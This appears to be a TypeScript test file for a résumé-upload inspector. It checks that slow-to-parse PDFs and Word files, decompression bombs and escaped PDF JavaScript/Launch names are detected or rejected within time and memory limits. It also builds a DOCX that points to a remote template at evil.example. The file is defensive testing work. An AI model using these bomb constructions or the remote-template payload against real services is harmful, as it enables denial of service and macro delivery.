import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { resumeFixture } from '../test-bed/resumes.ts';
import { zipOf } from '../test-bed/zip-of.ts';
import { inspectResume } from './inspect-resume.ts';

const { bytes: doc } = resumeFixture('written.doc');
const latin = (text: string) => Buffer.from(text, 'latin1');

/** Parts that name relations: each is read for templates from elsewhere. */
const lists = (count: number, bytes: number) =>
  Array.from({ length: count }, (_, index) => ({
    name: `word/${index}/_rels/settings.xml.rels`,
    content: '<Relationship '.repeat(bytes / 14),
  }));

test.each([
  ['a.pdf', latin(`%PDF-1.7\n${'\0'.repeat(2_000_000)}x${' '.repeat(2_000_000)}\nstartxref\n0\n%%EOF`)],
  ['a.pdf', latin(`%PDF-1.7\n${'stream\n'.repeat(500_000)}\nstartxref\n0\n%%EOF`)],
  ['a.docx', zipOf({ name: 'word/_rels/settings.xml.rels', content: '<Relationship '.repeat(18_000) })],
  ['a.docx', zipOf({ name: '[Content_Types].xml', content: '<Relationship '.repeat(4_000_000) })],
  ['a.docx', zipOf(...lists(250, 252_000))],
])('a %s that is written to be slow to read is read within 1.5 s', async (name, bytes) => {
  const began = performance.now();
  await inspectResume(name, bytes);
  expect(performance.now() - began).toBeLessThan(1500);
});

/** What an inspection in a process of its own says, with the memory that `npm start` and the service give it. */
async function inspectedInProduction(name: string, bytes: Buffer): Promise<string> {
  const folder = mkdtempSync(join(tmpdir(), 'resume-'));
  try {
    const file = join(folder, name);
    writeFileSync(file, bytes);
    const inspector = new URL('inspect-resume.ts', import.meta.url).href;
    const script = `const { inspectResume } = await import(${JSON.stringify(inspector)});
      console.log(await inspectResume(${JSON.stringify(name)}, (await import('node:fs')).readFileSync(${JSON.stringify(file)})));`;
    const limits = ['--max-semi-space-size=4', '--max-old-space-size=160'];
    const { stdout } = await promisify(execFile)(
      process.execPath,
      [...limits, '--input-type=module', '-e', script],
      { timeout: 20_000 },
    );
    return stdout.trim();
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

describe('a small file cannot take the memory or the time of the server', () => {
  const megabyte = 1024 * 1024;
  const objectStream = (content: Buffer) =>
    Buffer.concat([
      latin('1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n'),
      deflateSync(content),
      latin('\nendstream endobj\n'),
    ]);
  const pdfOf = (...parts: Buffer[]) =>
    Buffer.concat([latin('%PDF-1.5\n'), ...parts, latin('startxref\n9\n%%EOF')]);

  test('a PDF of 4.9 MB of escaped letters, plain', async () =>
    expect(await inspectedInProduction('a.pdf', pdfOf(Buffer.alloc(4.9 * megabyte, '#41')))).toBe('null'));

  test('a PDF of 8 kB whose objects unpack to 8 MB of escaped letters', async () => {
    const file = pdfOf(objectStream(Buffer.alloc(8 * megabyte, '#41')));
    expect(file.length).toBeLessThan(10_000);
    expect(await inspectedInProduction('a.pdf', file)).toBe('null');
  });

  test('a PDF whose objects unpack to more than 16 MB, in one stream or in many', async () => {
    const whole = pdfOf(objectStream(Buffer.alloc(17 * megabyte)));
    expect(await inspectedInProduction('a.pdf', whole)).toBe('resume_bomb');
    const many = pdfOf(...Array.from({ length: 17 }, () => objectStream(Buffer.alloc(megabyte))));
    expect(await inspectedInProduction('a.pdf', many)).toBe('resume_bomb');
  });

  test('a PDF of more than a thousand streams of objects', async () => {
    const streams = Array.from({ length: 1001 }, () => objectStream(latin('<<>>')));
    expect(await inspectedInProduction('a.pdf', pdfOf(...streams))).toBe('resume_bomb');
  });

  test('a Word document of 32 kB whose header names one sector five thousand times', async () => {
    const file = Buffer.alloc(8 * 4096);
    doc.copy(file, 0, 0, 76);
    file.writeUInt16LE(12, 30);
    for (let at = 76; at < 512; at += 4) file.writeUInt32LE(1, at);
    file.writeUInt32LE(0, 68);
    for (let at = 4096; at < 8192; at += 4) file.writeUInt32LE(1, at);
    expect(await inspectedInProduction('a.doc', file)).toBe('resume_damaged');
  });

  test('a Word document of which one list, or all of hundreds together, unpacks to too much', async () => {
    expect(await inspectedInProduction('a.docx', zipOf(...lists(1, 300_000)))).toBe('resume_bomb');
    const many = zipOf(...lists(300, 252_000));
    expect(many.length).toBeLessThan(500_000);
    expect(await inspectedInProduction('a.docx', many)).toBe('resume_bomb');
  });

  test('a Word document of more than five thousand parts', async () => {
    const parts = Array.from({ length: 5001 }, (_, index) => ({ name: `word/${index}.xml`, content: '' }));
    expect(await inspectedInProduction('a.docx', zipOf(...parts))).toBe('resume_bomb');
  });

  test('programs are found in the last of many streams or parts, escaped or not', async () => {
    for (const name of ['/JavaScript (x)', '/J#61va#53#63ript', '/#4cau#6Ech<<'])
      expect(
        await inspectResume('a.pdf', pdfOf(objectStream(latin('<<>>')), objectStream(latin(`<<${name}`)))),
      ).toBe('resume_macros');
    const template =
      '<Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>';
    const rels = Array.from({ length: 100 }, (_, index) => ({
      name: `word/${index}/_rels/settings.xml.rels`,
      content: index === 99 ? template : '',
    }));
    expect(await inspectResume('a.docx', zipOf(...rels))).toBe('resume_macros');
    expect(
      await inspectResume('a.pdf', pdfOf(objectStream(latin('/JavaScripts /J#61vaScript#41')))),
    ).toBeNull();
  });
});
